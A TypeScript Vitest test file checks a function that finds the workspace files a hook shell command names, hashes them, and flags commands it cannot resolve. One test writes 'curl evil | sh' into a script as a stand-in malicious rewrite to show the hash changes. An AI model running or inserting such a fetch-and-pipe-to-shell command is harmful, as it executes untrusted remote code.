import { execFileSync } from "node:child_process"
import { mkdir, symlink, writeFile } from "node:fs/promises"
import path from "node:path"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { makeTempDir } from "../../test-support/tempDir.js"
import { hookFiles, type HookFiles } from "./hookFiles.js"

let temp: Awaited<ReturnType<typeof makeTempDir>>
let workspace: string
beforeEach(async () => {
	temp = await makeTempDir("cairn-hook-files-")
	workspace = path.join(temp.dir, "workspace")
	await mkdir(path.join(workspace, "scripts"), { recursive: true })
	await mkdir(path.join(workspace, "tools"))
	await writeFile(path.join(workspace, "scripts", "fmt.sh"), "prettier --write .\n")
	await writeFile(path.join(workspace, "tools", "lint"), "#!/bin/sh\n")
	await writeFile(path.join(workspace, "x.js"), "console.log(1)\n")
	await writeFile(path.join(workspace, "package.json"), '{"scripts": {"lint": "eslint ."}}\n')
	await writeFile(path.join(workspace, "Makefile"), "fmt:\n\tprettier --write .\n")
	await writeFile(path.join(workspace, "tools", "fmt.py"), "print(1)\n")
	await writeFile(path.join(temp.dir, "elsewhere.sh"), "echo elsewhere\n")
})
afterEach(() => temp.remove())

const named = async (command: string) => {
	const files = await hookFiles(command, workspace)
	if (files.kind !== "known") throw new Error(`unknowable: ${files.reason}`)
	return Object.fromEntries(files.files.map((file) => [file.path, file.state]))
}
const hashed = expect.stringMatching(/^sha256 [0-9a-f]{64} at /)

describe("the workspace files a hook command names", () => {
	it.each([
		["sh scripts/fmt.sh", "scripts/fmt.sh"],
		["./tools/lint --fix", "tools/lint"],
		["node x.js", "x.js"],
		["bash -c 'sh scripts/fmt.sh'", "scripts/fmt.sh"],
		["env A=1 sh scripts/fmt.sh", "scripts/fmt.sh"],
		["cd scripts && sh fmt.sh", "scripts/fmt.sh"],
		["eslint --config=x.js", "x.js"],
		[". ./scripts/fmt.sh", "scripts/fmt.sh"],
		["sh < scripts/fmt.sh", "scripts/fmt.sh"],
		["npm run lint", "package.json"],
		["make -s fmt", "Makefile"],
		["python3 -m tools.fmt --check", "tools/fmt.py"],
	])("%s names %s, by its content", async (command, file) => {
		expect(await named(command)).toMatchObject({ [file]: hashed })
	})

	it("follows the file's content: a rewrite, a removal or a new file changes what is named", async () => {
		const before = await named("sh scripts/fmt.sh gen.sh")
		expect(before["gen.sh"]).toBe("absent")
		await writeFile(path.join(workspace, "scripts", "fmt.sh"), "curl evil | sh\n")
		const rewritten = await named("sh scripts/fmt.sh gen.sh")
		expect(rewritten["scripts/fmt.sh"]).not.toBe(before["scripts/fmt.sh"])
		await writeFile(path.join(workspace, "gen.sh"), "echo new\n")
		expect((await named("sh scripts/fmt.sh gen.sh"))["gen.sh"]).toEqual(hashed)
	})

	it("leaves out what the hook only writes through a redirection: its output", async () => {
		expect(await named("sh scripts/fmt.sh > fmt.log 2>> errors.log")).toEqual({
			"scripts/fmt.sh": hashed,
		})
	})

	it("leaves out programs found on PATH and files outside the workspace", async () => {
		expect(await named(`prettier --write . && sh ${path.join(temp.dir, "elsewhere.sh")}`)).toEqual({
			".": "is a folder, not a regular file",
		})
	})

	it("records where a link inside the workspace leads, without reading outside", async () => {
		await symlink(path.join(temp.dir, "elsewhere.sh"), path.join(workspace, "scripts", "linked.sh"))
		expect(await named("sh scripts/linked.sh")).toEqual({
			"scripts/linked.sh": `outside ${path.join(temp.dir, "elsewhere.sh")}`,
		})
	})

	it("does not wait on a FIFO", async () => {
		execFileSync("mkfifo", [path.join(workspace, "scripts", "pipe.sh")])
		expect(await named("sh scripts/pipe.sh")).toEqual({
			"scripts/pipe.sh": "is a FIFO (named pipe), not a regular file",
		})
	})

	it.each([
		['sh "$CAIRN_WORKSPACE/scripts/fmt.sh"', /only known when the hook runs/],
		["sh $(cat which)", /only known/],
		["sh scripts/*.sh", /pattern/],
		["find . -name '*.sh' | xargs sh", /adds arguments/],
		["f() { sh scripts/fmt.sh; }; f", /function/],
		["((x = 1)); sh scripts/fmt.sh", /arithmetic/],
	])("cannot tell for %s", async (command, reason) => {
		expect(await hookFiles(command, workspace)).toEqual<HookFiles>({
			kind: "unknowable",
			reason: expect.stringMatching(reason) as unknown as string,
		})
	})
})
